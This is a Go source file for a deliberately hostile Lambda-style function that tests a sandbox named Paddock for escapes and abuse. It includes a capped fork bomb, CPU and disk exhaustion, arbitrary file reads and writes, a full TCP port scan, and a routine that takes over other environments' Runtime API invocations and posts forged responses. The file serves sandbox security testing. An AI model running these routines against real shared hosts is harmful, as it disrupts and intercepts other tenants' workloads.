// Command hostile is a test function for Paddock's sandbox: each field of
// its event makes it do one thing a function should not be able to get
// away with, and it reports what happened instead of crashing, so a test
// can assert on it:
//
//	{"alloc_mb":N}      allocate and touch N MB
//	{"fork_bomb":true}  start processes until the kernel refuses one
//	{"cpu_hog_ms":N}    keep every CPU busy for N ms
//	{"fill_tmp":true}   write to os.TempDir() until a write fails
//	{"read":"/path"}    read a file
//	{"write":"/path","data":"..."}  write a file
//	{"signal_pid":N}    kill -0 a process
//	{"whoami":true}     who and where it is
//	{"steal":{"hosts":["127.0.0.1"],"ports":[],"ms":3000}}
//	                    scan the hosts' TCP ports (all of them when ports
//	                    is empty), and for ms poll /next on every Runtime
//	                    API it finds but its own, answering what it gets
//	                    with a forged response
//	{"dial":"host:port"} open a TCP connection and read a line (error: only
//	                    when the connection failed)
//	{"probe":true}      Seccomp mode, unshare(CLONE_NEWUSER), listing of /
package main

import (
	"bufio"
	"context"
	"errors"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/aws/aws-lambda-go/lambda"
)

type event struct {
	AllocMB   int    `json:"alloc_mb"`
	ForkBomb  bool   `json:"fork_bomb"`
	CPUHogMS  int    `json:"cpu_hog_ms"`
	FillTmp   bool   `json:"fill_tmp"`
	Read      string `json:"read"`
	Write     string `json:"write"`
	Data      string `json:"data"`
	SignalPID int    `json:"signal_pid"`
	WhoAmI    bool   `json:"whoami"`
	Steal     *steal `json:"steal"`
	Dial      string `json:"dial"`
	Probe     bool   `json:"probe"`
}

type steal struct {
	Hosts []string `json:"hosts"`
	Ports []int    `json:"ports"`
	MS    int      `json:"ms"`
}

// result is what every action answers; fields it does not use stay empty.
type result struct {
	Error string `json:"error,omitempty"` // the error the action ended with

	// whoami
	UID        int    `json:"uid,omitempty"`
	GID        int    `json:"gid,omitempty"`
	PID        int    `json:"pid,omitempty"`
	HostPID    string `json:"host_pid,omitempty"` // /proc/self as seen in its /proc
	TmpDir     string `json:"tmpdir,omitempty"`
	Cwd        string `json:"cwd,omitempty"`
	TaskRoot   string `json:"task_root,omitempty"`
	NoNewPrivs string `json:"no_new_privs,omitempty"`
	Cgroup     string `json:"cgroup,omitempty"`

	Forked    int     `json:"forked,omitempty"`      // fork_bomb: processes started before the refusal
	Written   int64   `json:"written,omitempty"`     // fill_tmp: bytes written before the failure
	Data      string  `json:"data,omitempty"`        // read: the first bytes
	CPUSecond float64 `json:"cpu_seconds,omitempty"` // cpu_hog_ms: CPU time the process used
	WallMS    int64   `json:"wall_ms,omitempty"`

	// steal
	Open   []string `json:"open,omitempty"`   // host:port that accepted a connection
	APIs   []string `json:"apis,omitempty"`   // of them, those that spoke the Runtime API
	Stolen int      `json:"stolen,omitempty"` // invokes received from them
	// probe
	Seccomp       string   `json:"seccomp,omitempty"`
	UnshareUser   string   `json:"unshare_user,omitempty"`
	Root          []string `json:"root,omitempty"`
	RuntimeAPIEnv string   `json:"runtime_api,omitempty"`
}

var hold [][]byte

func handle(_ context.Context, ev event) (result, error) {
	var r result
	switch {
	case ev.WhoAmI:
		r.UID, r.GID, r.PID, r.TmpDir = os.Getuid(), os.Getgid(), os.Getpid(), os.TempDir()
		r.Cwd, _ = os.Getwd()
		r.HostPID, _ = os.Readlink("/proc/self")
		r.TaskRoot = os.Getenv("LAMBDA_TASK_ROOT")
		if st, err := os.ReadFile("/proc/self/status"); err == nil {
			for _, l := range strings.Split(string(st), "\n") {
				if v, ok := strings.CutPrefix(l, "NoNewPrivs:"); ok {
					r.NoNewPrivs = strings.TrimSpace(v)
				}
			}
		}
		cg, _ := os.ReadFile("/proc/self/cgroup")
		r.Cgroup = string(cg)
	case ev.AllocMB > 0:
		for i := 0; i < ev.AllocMB; i++ {
			b := make([]byte, 1<<20)
			for j := range b {
				b[j] = byte(j)
			}
			hold = append(hold, b)
		}
	case ev.ForkBomb:
		r.Forked, r.Error = forkBomb()
	case ev.CPUHogMS > 0:
		r.CPUSecond, r.WallMS = cpuHog(time.Duration(ev.CPUHogMS) * time.Millisecond)
	case ev.FillTmp:
		r.Written, r.Error = fillTmp()
	case ev.Read != "":
		b, err := os.ReadFile(ev.Read)
		r.Error = errString(err)
		r.Data = string(b[:min(len(b), 64)])
	case ev.Write != "":
		r.Error = errString(os.WriteFile(ev.Write, []byte(ev.Data), 0o644))
	case ev.SignalPID != 0:
		r.Error = errString(syscall.Kill(ev.SignalPID, 0))
	case ev.Steal != nil:
		r.Open, r.APIs, r.Stolen = stealInvokes(*ev.Steal)
	case ev.Dial != "":
		c, err := net.DialTimeout("tcp", ev.Dial, time.Second)
		if err != nil {
			r.Error = err.Error()
			break
		}
		c.SetDeadline(time.Now().Add(2 * time.Second)) //nolint:errcheck
		// Connected: any read outcome is data, the error is the dial's only.
		line, err := bufio.NewReader(c).ReadString('\n')
		c.Close()
		r.Data = strings.TrimSpace(line)
		if err != nil && r.Data == "" {
			r.Data = "connected, then " + err.Error()
		}
	case ev.Probe:
		if st, err := os.ReadFile("/proc/self/status"); err == nil {
			for _, l := range strings.Split(string(st), "\n") {
				if v, ok := strings.CutPrefix(l, "Seccomp:"); ok {
					r.Seccomp = strings.TrimSpace(v)
				}
			}
		}
		r.UnshareUser = errString(onOwnThread(func() error { return syscall.Unshare(syscall.CLONE_NEWUSER) }))
		ents, _ := os.ReadDir("/")
		for _, e := range ents {
			r.Root = append(r.Root, e.Name())
		}
		r.RuntimeAPIEnv = os.Getenv("AWS_LAMBDA_RUNTIME_API")
	}
	return r, nil
}

// onOwnThread runs f on an OS thread of its own, which ends after.
func onOwnThread(f func() error) error {
	done := make(chan error, 1)
	go func() {
		runtime.LockOSThread()
		done <- f()
	}()
	return <-done
}

// stealInvokes is the attack of issue 11: find other EEs' Runtime APIs by
// scanning, park on their /next, and answer whatever arrives.
func stealInvokes(s steal) (open, apis []string, stolen int) {
	own := os.Getenv("AWS_LAMBDA_RUNTIME_API")
	ports := s.Ports
	if len(ports) == 0 {
		for p := 1; p <= 65535; p++ {
			ports = append(ports, p)
		}
	}
	var mu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, 512)
	for _, h := range s.Hosts {
		for _, p := range ports {
			addr := net.JoinHostPort(h, strconv.Itoa(p))
			if addr == own {
				continue
			}
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer wg.Done()
				defer func() { <-sem }()
				c, err := net.DialTimeout("tcp", addr, 300*time.Millisecond)
				if err != nil {
					return
				}
				c.Close()
				mu.Lock()
				open = append(open, addr)
				mu.Unlock()
			}()
		}
	}
	wg.Wait()
	client := &http.Client{Timeout: 500 * time.Millisecond}
	deadline := time.Now().Add(time.Duration(s.MS) * time.Millisecond)
	var count atomic.Int64
	for _, addr := range open {
		res, err := client.Get("http://" + addr + "/2018-06-01/runtime/invocation/next")
		if err != nil {
			continue
		}
		res.Body.Close()
		if res.Header.Get("Lambda-Runtime-Aws-Request-Id") == "" {
			continue
		}
		apis = append(apis, addr)
		count.Add(1)
		forge(client, addr, res.Header.Get("Lambda-Runtime-Aws-Request-Id"))
		for i := 0; i < 8; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for time.Now().Before(deadline) {
					res, err := client.Get("http://" + addr + "/2018-06-01/runtime/invocation/next")
					if err != nil {
						continue
					}
					res.Body.Close()
					if id := res.Header.Get("Lambda-Runtime-Aws-Request-Id"); id != "" {
						count.Add(1)
						forge(client, addr, id)
					}
				}
			}()
		}
	}
	wg.Wait()
	return open, apis, int(count.Load())
}

func forge(c *http.Client, addr, id string) {
	res, err := c.Post("http://"+addr+"/2018-06-01/runtime/invocation/"+id+"/response", "application/json", strings.NewReader(`"forged"`))
	if err == nil {
		res.Body.Close()
	}
}

// forkBomb starts processes that wait on a pipe until the kernel refuses
// one (at most 5,000, so an unconfined run stays survivable), then closes
// the pipe so they all exit, and reaps them.
func forkBomb() (int, string) {
	rd, wr, err := os.Pipe()
	if err != nil {
		return 0, err.Error()
	}
	var kids []*exec.Cmd
	var startErr error
	for len(kids) < 5000 {
		c := exec.Command("/bin/cat")
		c.Stdin = rd
		if startErr = c.Start(); startErr != nil {
			break
		}
		kids = append(kids, c)
	}
	wr.Close()
	rd.Close()
	for _, c := range kids {
		c.Wait() //nolint:errcheck // they exit at EOF
	}
	if startErr == nil {
		return len(kids), ""
	}
	return len(kids), startErr.Error()
}

// cpuHog spins one goroutine per CPU for d and returns the CPU time the
// process used meanwhile.
func cpuHog(d time.Duration) (float64, int64) {
	before := cpuTime()
	start := time.Now()
	done := make(chan struct{})
	for i := 0; i < runtime.NumCPU(); i++ {
		go func() {
			x := 0
			for time.Since(start) < d {
				x++
			}
			_ = x
			done <- struct{}{}
		}()
	}
	for i := 0; i < runtime.NumCPU(); i++ {
		<-done
	}
	return cpuTime() - before, time.Since(start).Milliseconds()
}

func cpuTime() float64 {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru) //nolint:errcheck
	return float64(ru.Utime.Nano()+ru.Stime.Nano()) / 1e9
}

// fillTmp writes 1 MiB blocks into a file in os.TempDir() until a write
// fails, then removes the file so the function keeps working.
func fillTmp() (int64, string) {
	name := filepath.Join(os.TempDir(), "fill")
	f, err := os.Create(name)
	if err != nil {
		return 0, err.Error()
	}
	defer os.Remove(name)
	defer f.Close()
	block := make([]byte, 1<<20)
	var n int64
	for n < 64<<30 {
		w, err := f.Write(block)
		n += int64(w)
		if err != nil {
			return n, err.Error()
		}
	}
	return n, errors.New("wrote 64 GiB without an error").Error()
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

func main() {
	lambda.Start(handle)
}
